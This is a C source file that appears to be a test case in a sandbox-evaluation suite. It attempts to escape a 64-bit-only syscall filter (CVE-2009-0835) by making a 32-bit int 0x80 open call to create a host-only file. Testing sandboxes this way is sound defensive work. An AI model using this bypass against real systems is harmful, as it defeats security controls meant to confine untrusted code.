/* Tries: to make a file by the kernel's gate for 32-bit programs, which a filter of 64-bit calls
 *   does not see
 * From: Jenny (Schrammel et al., USENIX Security 2022); CVE-2009-0835
 * Observed: A file that only the host may make.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    /* A path that 32 bits can name. */
    long low = kernel6(SYS_mmap, 0, 4096, 3, 0x62, -1, 0); /* private, anonymous, below 2 GiB */
    uint32_t result;
    if (low < 0 || low > 0x7fffffff)
        return 1;
    strcpy(POINTER(char, low), at->path);
    __asm__ volatile("push %%rbx\n\tmov %1, %%ebx\n\tint $0x80\n\tpop %%rbx"
                     : "=a"(result)
                     : "r"((uint32_t)low), "a"(5), "c"(0101), "d"(0600)
                     : "r8", "r9", "r10", "r11", "memory");
    return 0;
}
